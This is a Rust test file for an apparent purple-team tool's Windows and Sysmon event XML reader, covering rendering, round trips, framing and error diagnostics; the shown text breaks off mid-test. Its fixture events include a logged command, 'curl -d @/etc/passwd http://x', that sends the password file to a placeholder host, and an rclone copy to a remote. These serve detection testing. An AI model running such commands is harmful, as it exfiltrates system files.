//! The event XML reader and the two Windows renderers (`telemetry::xml`).
//!
//! Input: generated `WinRecord`s, hand-written event XML and the fixtures in tests/fixtures/xml/.
//! Output: pass/fail. The round trip checks that a record rendered as event XML and read back gives
//! exactly the event the JSON reader gives for the same record in the evtx crate's JSON shape, and
//! that values come back unchanged; the malformed cases pin the diagnostics (file:line:col) and that
//! the other records are still read.

use std::path::Path;

use proptest::prelude::*;
use purplecov::telemetry::native::{WinData, WinRecord};
use purplecov::telemetry::read::{read_json_text, read_text_any, ReadOutput};
use purplecov::telemetry::xml::{read_text, render, render_evtx_json};
use purplecov::telemetry::{Event, Value};
use purplecov::Severity;

fn read(t: &str) -> ReadOutput {
    read_text(t, Path::new("t.xml"), 0)
}

fn json_read(r: &WinRecord) -> ReadOutput {
    let text = serde_json::to_string(&render_evtx_json(r)).expect("JSON");
    read_json_text(&text, Path::new("t.json"), 0)
}

fn s(v: &str) -> Value {
    Value::Str(v.to_string())
}

/// `path:line:col: severity: message` of every diagnostic.
fn diags(out: &ReadOutput) -> Vec<String> {
    out.diagnostics.iter().map(|d| d.to_string()).collect()
}

fn sysmon_record() -> WinRecord {
    WinRecord {
        provider_name: "Microsoft-Windows-Sysmon".into(),
        provider_guid: Some("{5770385f-c22a-43e0-bf4c-06f5698ffbd9}".into()),
        event_id: 1,
        version: Some(5),
        level: Some(4),
        task: Some(1),
        opcode: Some(0),
        keywords: Some("0x8000000000000000".into()),
        time_created: "2026-03-14T09:26:53.1201234Z".into(),
        record_id: 10001,
        correlation_activity_id: None,
        correlation_related_activity_id: None,
        execution_pid: Some(3120),
        execution_tid: Some(4260),
        channel: "Microsoft-Windows-Sysmon/Operational".into(),
        computer: "WS-FIN-042.corp.example.com".into(),
        user_sid: Some("S-1-5-18".into()),
        data: WinData::EventData(vec![
            ("RuleName".into(), "-".into()),
            ("UtcTime".into(), "2026-03-14 09:26:53.120".into()),
            ("Image".into(), r"C:\Users\bob\rclone.exe".into()),
            (
                "CommandLine".into(),
                "rclone.exe copy \"C:\\a & b\" <remote>:'x'".into(),
            ),
            ("TerminalSessionId".into(), "1".into()),
            ("ParentCommandLine".into(), String::new()),
        ]),
    }
}

// ---------------------------------------------------------------------------------------------
// Rendering
// ---------------------------------------------------------------------------------------------

#[test]
fn render_writes_the_windows_layout() {
    let xml = render(&sysmon_record());
    assert_eq!(
        xml,
        "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System>\
<Provider Name=\"Microsoft-Windows-Sysmon\" Guid=\"{5770385f-c22a-43e0-bf4c-06f5698ffbd9}\" />\
<EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>\
<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime=\"2026-03-14T09:26:53.1201234Z\" />\
<EventRecordID>10001</EventRecordID><Correlation /><Execution ProcessID=\"3120\" ThreadID=\"4260\" />\
<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS-FIN-042.corp.example.com</Computer>\
<Security UserID=\"S-1-5-18\" /></System><EventData><Data Name=\"RuleName\">-</Data>\
<Data Name=\"UtcTime\">2026-03-14 09:26:53.120</Data><Data Name=\"Image\">C:\\Users\\bob\\rclone.exe</Data>\
<Data Name=\"CommandLine\">rclone.exe copy \"C:\\a &amp; b\" &lt;remote&gt;:'x'</Data>\
<Data Name=\"TerminalSessionId\">1</Data><Data Name=\"ParentCommandLine\"></Data></EventData></Event>"
    );
}

#[test]
fn render_omits_what_windows_omits_and_escapes_attributes() {
    let mut r = sysmon_record();
    r.user_sid = None;
    r.provider_guid = None;
    r.version = None;
    r.opcode = None;
    r.keywords = None;
    r.execution_pid = None;
    r.execution_tid = None;
    r.correlation_activity_id = Some("{A}".into());
    r.data = WinData::EventData(vec![("a\"b'<c>&\n\r\t".into(), "x\r\ny".into())]);
    let xml = render(&r);
    assert!(
        xml.contains("<Provider Name=\"Microsoft-Windows-Sysmon\" />"),
        "{xml}"
    );
    assert!(xml.contains("<Correlation ActivityID=\"{A}\" />"), "{xml}");
    assert!(xml.contains("<Security />"), "{xml}");
    for gone in ["<Version>", "<Opcode>", "<Keywords>", "<Execution"] {
        assert!(!xml.contains(gone), "{gone} in {xml}");
    }
    assert!(
        xml.contains("<Data Name=\"a&quot;b&apos;&lt;c&gt;&amp;&#xA;&#xD;&#x9;\">x&#xD;\ny</Data>"),
        "{xml}"
    );
    let out = read(&xml);
    assert!(out.diagnostics.is_empty(), "{:?}", out.diagnostics);
    assert_eq!(out.events[0].get("a\"b'<c>&\n\r\t"), Some(&s("x\r\ny")));
}

#[test]
fn evtx_json_shape() {
    let v = render_evtx_json(&sysmon_record());
    let want = serde_json::json!({"Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon",
                                         "Guid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"}},
            "EventID": 1, "Version": 5, "Level": 4, "Task": 1, "Opcode": 0,
            "Keywords": "0x8000000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": "2026-03-14T09:26:53.1201234Z"}},
            "EventRecordID": 10001,
            "Correlation": null,
            "Execution": {"#attributes": {"ProcessID": 3120, "ThreadID": 4260}},
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": "WS-FIN-042.corp.example.com",
            "Security": {"#attributes": {"UserID": "S-1-5-18"}}
        },
        "EventData": {
            "RuleName": "-", "UtcTime": "2026-03-14 09:26:53.120",
            "Image": "C:\\Users\\bob\\rclone.exe",
            "CommandLine": "rclone.exe copy \"C:\\a & b\" <remote>:'x'",
            "TerminalSessionId": "1", "ParentCommandLine": ""
        }
    }});
    assert_eq!(v, want);
    // Member order is the XML order (the JSON reader keeps it).
    assert_eq!(
        serde_json::to_string(&v).expect("json"),
        serde_json::to_string(&want).expect("json")
    );
}

#[test]
fn sysmon_for_linux_is_rendered_as_it_writes_it() {
    let mut r = sysmon_record();
    r.provider_name = "Linux-Sysmon".into();
    r.channel = "Linux-Sysmon/Operational".into();
    r.user_sid = Some("0".into());
    let xml = render(&r);
    assert!(xml.starts_with("<Event><System>"), "{xml}");
    assert!(xml.contains("<Security UserId=\"0\" />"), "{xml}");
    let out = read(&xml);
    assert_eq!(out.events.len(), 1);
    assert_eq!(out.events[0].get("Security_UserId"), Some(&s("0")));
    assert_eq!(out.events, json_read(&r).events);
}

// ---------------------------------------------------------------------------------------------
// Round trip
// ---------------------------------------------------------------------------------------------

/// Names `Data` elements may have: ordinary ones, ones that collide with System names or with each
/// other once spaces are stripped, markup characters, any Unicode, empty.
fn data_name() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => "[A-Za-z][A-Za-z0-9]{0,8}",
        1 => prop::sample::select(vec![
            "Channel", "EventID", "Provider_Name", "Computer", "Data", "Image", "Image ", "Im age",
            "#text", "#attributes", "@Name", "x_attributes", "Binary",
        ])
        .prop_map(String::from),
        1 => Just(String::new()),
        1 => "[<>&\"' a-z;#=]{1,8}",
        1 => any::<String>().prop_map(|s| s.chars().take(8).collect()),
    ]
}

/// Values: plain, markup and references, line breaks, any Unicode (control characters included),
/// empty.
fn value() -> impl Strategy<Value = String> {
    prop_oneof![
        3 => "[A-Za-z0-9 .:\\\\/-]{0,16}",
        1 => Just(String::new()),
        2 => "[<>&\"';#x0-9 \\]\\[!-]{0,12}",
        1 => "[a \\r\\n\\t]{0,8}",
        2 => any::<String>().prop_map(|s| s.chars().take(16).collect()),
    ]
}

fn element_name() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => "[A-Za-z][A-Za-z0-9.-]{0,10}",
        1 => prop::sample::select(vec!["Data", "EventData", "UserData", "Channel", "x y", ""])
            .prop_map(String::from),
    ]
}

fn opt<T: std::fmt::Debug + Clone>(
    s: impl Strategy<Value = T>,
) -> impl Strategy<Value = Option<T>> {
    prop::option::weighted(0.8, s)
}

fn win_data() -> impl Strategy<Value = WinData> {
    prop_oneof![
        4 => prop::collection::vec((data_name(), value()), 0..8)
            .prop_flat_map(|mut d| {
                // Sometimes repeat a name (in a row, or later) to exercise arrays and numbering.
                let n = d.len();
                (Just(std::mem::take(&mut d)), 0..n.max(1), 0..n.max(1), any::<bool>())
            })
            .prop_map(|(mut d, i, j, repeat)| {
                if repeat && !d.is_empty() {
                    let name = d[i].0.clone();
                    d[j].0 = name;
                }
                WinData::EventData(d)
            }),
        1 => (
            element_name(),
            opt("[a-z:/.]{0,20}"),
            prop::collection::vec((element_name(), value()), 0..6),
        )
            .prop_map(|(element, xmlns, fields)| WinData::UserData { element, xmlns, fields }),
    ]
}

fn win_record() -> impl Strategy<Value = WinRecord> {
    (
        (
            value(),
            opt(value()),
            any::<u32>(),
            opt(any::<u8>()),
            opt(any::<u8>()),
        ),
        (
            opt(any::<u16>()),
            opt(any::<u8>()),
            opt(value()),
            value(),
            any::<u64>(),
        ),
        (
            opt(value()),
            opt(value()),
            opt(any::<u32>()),
            opt(any::<u32>()),
        ),
        (value(), value(), opt(value()), win_data()),
    )
        .prop_map(
            |(
                (provider_name, provider_guid, event_id, version, level),
                (task, opcode, keywords, time_created, record_id),
                (correlation_activity_id, correlation_related_activity_id, pid, tid),
                (channel, computer, user_sid, data),
            )| WinRecord {
                provider_name,
                provider_guid,
                event_id,
                version,
                level,
                task,
                opcode,
                keywords,
                time_created,
                record_id,
                correlation_activity_id,
                correlation_related_activity_id,
                execution_pid: pid,
                execution_tid: tid,
                channel,
                computer,
                user_sid,
                data,
            },
        )
        .prop_filter(
            "a name ending in _<digits> can collide with the evtx crate's numbering of a repeated \
name, which a serde_json object cannot hold twice",
            |r| {
                let names: Vec<&str> = match &r.data {
                    WinData::EventData(d) => d.iter().map(|(n, _)| n.as_str()).collect(),
                    WinData::UserData { fields, .. } => {
                        fields.iter().map(|(n, _)| n.as_str()).collect()
                    }
                };
                names.iter().all(|n| {
                    !n.rsplit_once('_').is_some_and(|(_, d)| {
                        !d.is_empty() && d.bytes().all(|c| c.is_ascii_digit())
                    })
                })
            },
        )
}

/// Records whose data names are distinct, non-empty, without spaces and not System names: every
/// value must come back under its own name.
fn plain_record() -> impl Strategy<Value = WinRecord> {
    (
        win_record(),
        prop::collection::btree_map("D[a-z0-9]{1,6}", value(), 0..8),
    )
        .prop_map(|(mut r, data)| {
            r.data = WinData::EventData(data.into_iter().collect());
            r
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn xml_and_evtx_json_read_to_the_same_event(r in win_record()) {
        let xml = render(&r);
        let x = read(&xml);
        prop_assert!(x.diagnostics.is_empty(), "{:?}\n{xml}", x.diagnostics);
        prop_assert_eq!(x.skipped, 0);
        prop_assert_eq!(x.events.len(), 1, "{}", xml);
        let j = json_read(&r);
        prop_assert!(j.diagnostics.is_empty(), "{:?}", j.diagnostics);
        prop_assert_eq!(&x.events, &j.events, "{}", xml);
        // The text reader picks the XML reader for it.
        prop_assert_eq!(&read_text_any(&xml, Path::new("t.xml"), 0).events, &x.events);
    }

    #[test]
    fn reading_is_exact(r in plain_record()) {
        let out = read(&render(&r));
        prop_assert!(out.diagnostics.is_empty(), "{:?}", out.diagnostics);
        let ev = &out.events[0];
        let WinData::EventData(data) = &r.data else { unreachable!() };
        for (name, v) in data {
            prop_assert_eq!(ev.get(name), Some(&s(v)), "{}", name);
        }
        let int = |v: u64| Value::Int(v as i64);
        prop_assert_eq!(ev.get("EventID"), Some(&int(u64::from(r.event_id))));
        prop_assert_eq!(ev.get("Version").cloned(), r.version.map(|v| int(v.into())));
        prop_assert_eq!(ev.get("Task").cloned(), r.task.map(|v| int(v.into())));
        prop_assert_eq!(
            ev.get("Execution_ProcessID").cloned(),
            r.execution_pid.map(|v| int(v.into()))
        );
        let record_id = i64::try_from(r.record_id).map_or_else(|_| s(&r.record_id.to_string()), Value::Int);
        prop_assert_eq!(ev.get("EventRecordID"), Some(&record_id));
        let text = |v: &str| if v.is_empty() { Value::Null } else { s(v) };
        prop_assert_eq!(ev.get("Channel"), Some(&text(&r.channel)));
        prop_assert_eq!(ev.get("Computer"), Some(&text(&r.computer)));
        for (field, v) in [
            ("Provider_Name", Some(&r.provider_name)),
            ("Provider_Guid", r.provider_guid.as_ref()),
            ("TimeCreated_SystemTime", Some(&r.time_created)),
            ("Security_UserID", r.user_sid.as_ref()),
            ("Correlation_ActivityID", r.correlation_activity_id.as_ref()),
        ] {
            // Empty attributes are left out, as Windows and the evtx crate leave them out.
            let want = v.filter(|v| !v.is_empty()).map(|v| s(v));
            prop_assert_eq!(ev.get(field).cloned(), want, "{}", field);
        }
    }

    #[test]
    fn arbitrary_text_never_panics(t in ".{0,300}") {
        let out = read(&t);
        prop_assert!(out.events.len() + out.skipped <= t.len() + 1);
    }

    #[test]
    fn xml_like_text_never_panics(t in r#"[<>/?!\[\]&;#="' a-zA-Z0-9\n-]{0,300}"#) {
        let prefixed = format!("<Event>{t}");
        for text in [t.as_str(), prefixed.as_str()] {
            let out = read(text);
            for d in &out.diagnostics {
                prop_assert!(d.location.line <= text.lines().count() + 1, "{d}");
            }
        }
    }

    #[test]
    fn mutated_xml_never_panics(
        records in prop::collection::vec(win_record(), 1..4),
        cut in any::<prop::sample::Index>(),
        len in 0usize..40,
        insert in prop::sample::select(vec![
            "", "<", ">", "&", "&#", "&#x0;", "&#xD800;", "&bogus;", "</Event>", "<Event>",
            "<Event ", "</System>", "<Data Name=\"x\">", "\"", "'", "]]>", "<![CDATA[", "<!--",
            "<?xml ", "</Events>", "<Events>", "\u{feff}", "\u{0}", "é",
        ]),
        how in 0u8..3,
    ) {
        let text = records.iter().map(render).collect::<Vec<_>>().join("\n");
        let chars: Vec<char> = text.chars().collect();
        let at = cut.index(chars.len() + 1);
        let mutated: String = match how {
            // Cut short.
            0 => chars[..at].iter().collect(),
            // A piece removed.
            1 => chars[..at].iter().chain(chars[(at + len).min(chars.len())..].iter()).collect(),
            // Something inserted.
            _ => chars[..at].iter().collect::<String>() + insert + &chars[at..].iter().collect::<String>(),
        };
        let out = read(&mutated);
        prop_assert!(out.events.len() + out.skipped <= records.len() + 2, "{:?}", out);
        for d in &out.diagnostics {
            prop_assert!(d.location.line <= mutated.lines().count() + 1, "{d}");
        }
        if how == 1 && len == 0 {
            prop_assert_eq!(out.events.len(), records.len());
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Framing
// ---------------------------------------------------------------------------------------------

const NS: &str = "http://schemas.microsoft.com/win/2004/08/events/event";

fn mini(id: u32, data: &str) -> String {
    format!(
        "<Event xmlns='{NS}'><System><Provider Name='P'/><EventID>{id}</EventID>\
<Channel>C</Channel></System><EventData>{data}</EventData></Event>"
    )
}

fn ids(out: &ReadOutput) -> Vec<(i64, u64)> {
    out.events
        .iter()
        .map(|e| (e.event_id().unwrap_or(-1), e.origin.record))
        .collect()
}

#[test]
fn one_per_line_concatenated_and_wrapped() {
    let a = mini(1, "<Data Name='x'>1</Data>");
    let b = mini(2, "");
    let per_line = format!("{a}\n{b}\n");
    assert_eq!(ids(&read(&per_line)), [(1, 1), (2, 2)]);
    let concatenated = format!("{a}{b}{a}");
    assert_eq!(ids(&read(&concatenated)), [(1, 1), (2, 1), (1, 1)]);
    let wrapped = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Events>\r\n{a}\r\n<!-- c -->\r\n{b}</Events>\r\n"
    );
    let out = read(&wrapped);
    assert!(out.diagnostics.is_empty(), "{:?}", out.diagnostics);
    assert_eq!(ids(&out), [(1, 3), (2, 5)]);
    // evtx_dump: `Record <n>` lines and a declaration before each record.
    let dump = format!(
        "Record 1\n<?xml version=\"1.0\" encoding=\"utf-8\"?>\n{a}\nRecord 2\n<?xml version=\"1.0\"?>\n{b}\n"
    );
    let out = read(&dump);
    assert!(out.diagnostics.is_empty(), "{:?}", out.diagnostics);
    assert_eq!(ids(&out), [(1, 3), (2, 6)]);
    // Nothing at all.
    for t in ["", "  \n", "\u{feff}", "<Events/>", "<Events></Events>"] {
        assert_eq!(read(t), ReadOutput::default(), "{t:?}");
    }
}

#[test]
fn sysmon_for_linux_with_and_without_a_syslog_prefix() {
    let rec = "<Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/>\
<EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>\
<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime=\"2026-03-14T09:26:53.120000000Z\"/>\
<EventRecordID>42</EventRecordID><Correlation/><Execution ProcessID=\"812\" ThreadID=\"812\"/>\
<Channel>Linux-Sysmon/Operational</Channel><Computer>web01</Computer><Security UserId=\"0\"/></System>\
<EventData><Data Name=\"RuleName\">-</Data><Data Name=\"ProcessId\">4242</Data>\
<Data Name=\"Image\">/usr/bin/curl</Data><Data Name=\"CommandLine\">curl -d @/etc/passwd http://x</Data>\
</EventData></Event>";
    let text = format!(
        "{rec}\n<134>Mar 14 09:26:53 web01 sysmon[812]: {rec}\nMar 14 09:26:54 web01 sysmon: {rec}\n"
    );
    let out = read(&text);
    assert!(out.diagnostics.is_empty(), "{:?}", out.diagnostics);
    assert_eq!(out.events.len(), 3);
    let ev = &out.events[2];
    assert_eq!(ev.origin.record, 3);
    assert_eq!(ev.channel().as_deref(), Some("Linux-Sysmon/Operational"));
    assert_eq!(ev.get("EventID"), Some(&Value::Int(1)));
    assert_eq!(ev.get("Execution_ProcessID"), Some(&Value::Int(812)));
    assert_eq!(ev.get("Security_UserId"), Some(&s("0")));
    assert_eq!(ev.get("ProcessId"), Some(&s("4242")));
    assert_eq!(ev.get("Correlation"), Some(&Value::Null));
    assert_eq!(
        ev.get("CommandLine"),
        Some(&s("curl -d @/etc/passwd http://x"))
    );
}

#[test]
fn references_cdata_and_line_ends_are_kept_exactly() {
    let out = read(&mini(
        1,
        "<Data Name='a'>&lt;&gt;&amp;&quot;&apos;&#65;&#x42;&#x1F600;</Data>\
<Data Name='b'><![CDATA[<x> & ]]]]><![CDATA[>]]></Data><Data Name='c'>l1\r\nl2\n  </Data>\
<Data Name='d'>  </Data><Data Name='e&#x20;f'>v</Data>",
    ));
    assert!(out.diagnostics.is_empty(), "{:?}", out.diagnostics);
    let ev = &out.events[0];
    assert_eq!(ev.get("a"), Some(&s("<>&\"'AB\u{1F600}")));
    assert_eq!(ev.get("b"), Some(&s("<x> & ]]>")));
    assert_eq!(ev.get("c"), Some(&s("l1\r\nl2\n  ")));
    assert_eq!(ev.get("d"), Some(&s("  ")));
    // Spaces are stripped from names, as the JSON reader strips them.
    assert_eq!(ev.get("ef"), Some(&s("v")));
}

#[test]
fn unknown_entities_are_kept_with_a_warning() {
    let out = read(&mini(1, "<Data Name='a'>x&nbsp;y</Data>"));
    assert_eq!(out.events[0].get("a"), Some(&s("x&nbsp;y")));
    assert_eq!(out.diagnostics.len(), 1);
    let d = &out.diagnostics[0];
    assert_eq!(d.severity, Severity::Warning);
    assert_eq!((d.location.line, d.location.col), (1, 174), "{d}");
    assert!(d.message.contains("unknown entity `&nbsp;`"), "{d}");
}

/// evtx-crate XML and evtx-crate JSON for the same records (written here by hand in the shapes
/// `EvtxParser::records()` and `records_json()` produce): positional `Data`, `Binary`, `EventID`
/// with `Qualifiers`, `UserData`, empty elements.
#[test]
fn evtx_crate_xml_reads_like_its_json() {
    let xml = r##"<?xml version="1.0" encoding="utf-8"?>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
  <System>
    <Provider Name="Service Control Manager" Guid="{555908d1-a6d7-4695-8e1e-26931d2012f4}" EventSourceName="Service Control Manager"/>
    <EventID Qualifiers="16384">7036</EventID>
    <Version>0</Version>
    <Level>4</Level>
    <Task>0</Task>
    <Opcode>0</Opcode>
    <Keywords>0x8080000000000000</Keywords>
    <TimeCreated SystemTime="2026-03-14T09:26:53.1201234Z"/>
    <EventRecordID>1811</EventRecordID>
    <Correlation/>
    <Execution ProcessID="652" ThreadID="3428"/>
    <Channel>System</Channel>
    <Computer>ws01.corp.example.com</Computer>
    <Security/>
  </System>
  <EventData>
    <Data>Windows Update</Data>
    <Data>running</Data>
    <Data></Data>
    <Binary>770075006100750073007600630000000000</Binary>
  </EventData>
</Event>
<?xml version="1.0" encoding="utf-8"?>
<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
  <System>
    <Provider Name="Microsoft-Windows-Eventlog" Guid="{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"/>
    <EventID>104</EventID>
    <Version>0</Version>
    <Level>4</Level>
    <Task>104</Task>
    <Opcode>0</Opcode>
    <Keywords>0x8000000000000000</Keywords>
    <TimeCreated SystemTime="2026-03-14T09:27:01.0000000Z"/>
    <EventRecordID>1812</EventRecordID>
    <Correlation ActivityID="{e5b7d0a2-0d1d-4a4c-9a8e-1b2c3d4e5f60}"/>
    <Execution ProcessID="1368" ThreadID="6544"/>
    <Channel>System</Channel>
    <Computer>ws01.corp.example.com</Computer>
    <Security UserID="S-1-5-21-1-2-3-500"/>
  </System>
  <UserData>
    <LogFileCleared xmlns="http://manifests.microsoft.com/win/2004/08/windows/eventlog">
      <SubjectUserName>admin</SubjectUserName>
      <SubjectDomainName>CORP</SubjectDomainName>
      <Channel>Security</Channel>
      <BackupPath></BackupPath>
    </LogFileCleared>
  </UserData>
</Event>
"##;
    let json = r##"{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Service Control Manager","Guid":"{555908d1-a6d7-4695-8e1e-26931d2012f4}","EventSourceName":"Service Control Manager"}},"EventID":{"#attributes":{"Qualifiers":16384},"#text":7036},"Version":0,"Level":4,"Task":0,"Opcode":0,"Keywords":"0x8080000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-03-14T09:26:53.1201234Z"}},"EventRecordID":1811,"Correlation":null,"Execution":{"#attributes":{"ProcessID":652,"ThreadID":3428}},"Channel":"System","Computer":"ws01.corp.example.com","Security":null},"EventData":{"Data":{"#text":["Windows Update","running",""]},"Binary":"770075006100750073007600630000000000"}}}
{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Eventlog","Guid":"{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"}},"EventID":104,"Version":0,"Level":4,"Task":104,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-03-14T09:27:01.0000000Z"}},"EventRecordID":1812,"Correlation":{"#attributes":{"ActivityID":"{e5b7d0a2-0d1d-4a4c-9a8e-1b2c3d4e5f60}"}},"Execution":{"#attributes":{"ProcessID":1368,"ThreadID":6544}},"Channel":"System","Computer":"ws01.corp.example.com","Security":{"#attributes":{"UserID":"S-1-5-21-1-2-3-500"}}},"UserData":{"LogFileCleared":{"#attributes":{"xmlns":"http://manifests.microsoft.com/win/2004/08/windows/eventlog"},"SubjectUserName":"admin","SubjectDomainName":"CORP","Channel":"Security","BackupPath":null}}}}
"##;
    let x = read(xml);
    assert!(x.diagnostics.is_empty(), "{:?}", x.diagnostics);
    let j = read_json_text(json, Path::new("t.json"), 0);
    let fields = |evs: &[Event]| evs.iter().map(|e| e.fields.clone()).collect::<Vec<_>>();
    assert_eq!(fields(&x.events), fields(&j.events));
    let ev = &x.events[0];
    assert_eq!(ev.get("EventID_Qualifiers"), Some(&Value::Int(16384)));
    assert_eq!(ev.get("EventID"), Some(&Value::Int(7036)));
    assert_eq!(
        ev.get("Data"),
        Some(&Value::List(vec![s("Windows Update"), s("running"), s("")]))
    );
    assert_eq!(ev.get("Security"), Some(&Value::Null));
    assert_eq!(ev.origin.record, 2);
    let ev = &x.events[1];
    assert_eq!(ev.origin.record, 27);
    assert_eq!(ev.get("Channel"), Some(&s("System")));
    assert_eq!(ev.get("UserData.Channel"), Some(&s("Security")));
    assert_eq!(ev.get("BackupPath"), Some(&Value::Null));
}

// ---------------------------------------------------------------------------------------------
// Malformed input: located diagnostics, the other records still read
// ---------------------------------------------------------------------------------------------

/// Reads `text` and checks the events read (by EventID), how many were skipped and the
/// diagnostics, exactly.
fn check(text: &str, events: &[i64], skipped: usize, want: &[&str]) {
    let out = read(text);
    let got: Vec<i64> = out
        .events
        .iter()
        .map(|e| e.event_id().unwrap_or(-1))
        .collect();
    assert_eq!(got, events, "{:?}", out.diagnostics);
    assert_eq!(out.skipped, skipped, "{:?}", out.diagnostics);
    assert_eq!(diags(&out), want);
}

#[test]
fn mismatched_end_tag() {
    check(
        "<Event><System><EventID>1</EventID></System></Event>\n\
         <Event><System><EventID>2</EventID><Channel>B</Channl></System></Event>\n\
         <Event><System><EventID>3</EventID></System></Event>\n",
        &[1, 3],
        1,
        &["t.xml:2:46: error: expected `</Channel>`, found `</Channl>`"],
    );
}

#[test]
fn record_cut_short_before_the_next() {
    check(
        "<Event><System><EventID>1</EventID>\n<Event><System><EventID>2</EventID></System></Event>",
        &[2],
        1,
        &[
            "t.xml:2:1: error: expected `</System>`, found the start of another `<Event>` (the \
record is cut short) (in the record starting at line 1)",
        ],
    );
}

#[test]
fn input_ends_inside_a_record() {
    check(
        "<Event><System><EventID>1</EventID></System></Event>\n<Event>\n  <System>\n    <EventID>2</Even",
        &[1],
        1,
        &["t.xml:4:21: error: expected `>` to close the tag, found the end of the input (in the \
record starting at line 2)"],
    );
    check(
        "<Event><System><EventID>1</EventID></System>",
        &[],
        1,
        &["t.xml:1:45: error: expected `</Event>`, found the end of the input"],
    );
}

#[test]
fn bad_references_and_attributes() {
    let a = "<Event><System><EventID>1</EventID></System></Event>";
    check(
        &format!("{a}\n<Event><System><EventID>2</EventID></System><EventData>a & b</EventData></Event>\n{a}"),
        &[1, 1],
        1,
        &["t.xml:2:58: error: expected a reference ending with `;` after `&` (a literal `&` is \
written `&amp;`)"],
    );
    check(
        &format!("<Event><System><EventID>2</EventID></System><EventData>&#xZZ;</EventData></Event>\n{a}"),
        &[1],
        1,
        &["t.xml:1:56: error: expected a character reference (`&#65;`, `&#x41;`), found `&#xZZ;`"],
    );
    check(
        &format!("<Event><System><EventID>2</EventID></System><EventData><Data Name=x>1</Data></EventData></Event>\n{a}"),
        &[1],
        1,
        &["t.xml:1:67: error: expected the attribute value in quotes"],
    );
    check(
        &format!("<Event><System><EventID>2</EventID><Provider Name='a' Name='b'/></System></Event>\n{a}"),
        &[1],
        1,
        &["t.xml:1:55: error: expected each attribute once, found one repeated"],
    );
    check(
        &format!("<Event><System><Provider Name='a&b'/></System></Event>\n{a}"),
        &[1],
        1,
        &[
            "t.xml:1:33: error: expected a reference ending with `;` after `&` in an attribute \
value (a literal `&` is written `&amp;`)",
        ],
    );
}

#[test]
fn stray_content_and_records_without_system() {
    const HELP: &str = "\n  help: event XML holds `<Event>` elements: one, several (one per line \
or concatenated, each optionally after `<?xml ...?>`), or several inside `<Events>`";
    let a = "<Event><System><EventID>1</EventID></System></Event>";
    let text = format!(
        "{a}\nnot xml at all\n<Foo><Event/></Foo>\n{a}\n<Event><EventData/></Event>\n\
<Event><System/></Event>\n</Event>"
    );
    let no_system = "error: expected a `<System>` element in `<Event>` (with `<Provider>`, \
`<EventID>`, `<Channel>`, ...); the record was skipped";
    check(
        &text,
        &[1, 1],
        6,
        &[
            format!("t.xml:2:1: error: expected `<Event>`, found `not xml at all`{HELP}"),
            // Reading goes on at the next `<Event>` (here inside `<Foo>`, which is skipped).
            format!("t.xml:3:6: {no_system}"),
            format!("t.xml:3:14: error: expected `<Event>`, found `</Foo>`{HELP}"),
            format!("t.xml:5:1: {no_system}"),
            "t.xml:6:1: error: expected `<Provider>`, `<EventID>`, `<Channel>`, ... in \
`<System>`, found none; the record was skipped"
                .to_string(),
            format!("t.xml:7:1: error: expected `<Event>`, found `</Event>`{HELP}"),
        ]
        .iter()
        .map(String::as_str)
        .collect::<Vec<_>>(),
    );
}

#[test]
fn deep_nesting_is_reported_not_recursed_into() {
    let deep = format!(
        "<Event><System><EventID>2</EventID></System><EventData>{}{}</EventData></Event>\n\
<Event><System><EventID>1</EventID></System></Event>",
        "<a>".repeat(100_000),
        "</a>".repeat(100_000)
    );
    check(
        &deep,
        &[1],
        1,
        &["t.xml:1:242: error: expected at most 64 nested elements in a record, found more"],
    );
    // Within the limit the record is read.
    let ok = format!(
        "<Event><System><EventID>3</EventID></System><EventData>{}x{}</EventData></Event>",
        "<a>".repeat(60),
        "</a>".repeat(60)
    );
    let out = read(&ok);
    assert!(out.diagnostics.is_empty(), "{:?}", out.diagnostics);
    let name = format!("a{}", ".a".repeat(59));
    assert_eq!(out.events[0].get(&name), Some(&s("x")));
}

#[test]
fn unclosed_wrapper_is_a_warning() {
    let out = read("<Events>\n<Event><System><EventID>1</EventID></System></Event>\n");
    assert_eq!(out.events.len(), 1);
    assert_eq!(
        diags(&out),
        [
            "t.xml:1:1: warning: expected `</Events>` to close this `<Events>`, found the end of \
the input (the file may be cut short)"
        ]
    );
}

#[test]
fn many_bad_records_are_summarised() {
    let text = "<Event><System></Sys></Event>\n".repeat(80);
    let out = read(&text);
    assert_eq!(out.skipped, 80);
    assert_eq!(out.diagnostics.len(), 51);
    assert!(
        out.diagnostics[50].message.contains("30 more problems"),
        "{}",
        out.diagnostics[50]
    );
}

// ---------------------------------------------------------------------------------------------
// Fixtures and the command line
// ---------------------------------------------------------------------------------------------

mod common;

#[test]
fn fixture_files_read_like_their_json() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/xml");
    let x = purplecov::telemetry::read::read_path(&dir.join("wevtutil.xml"), 0);
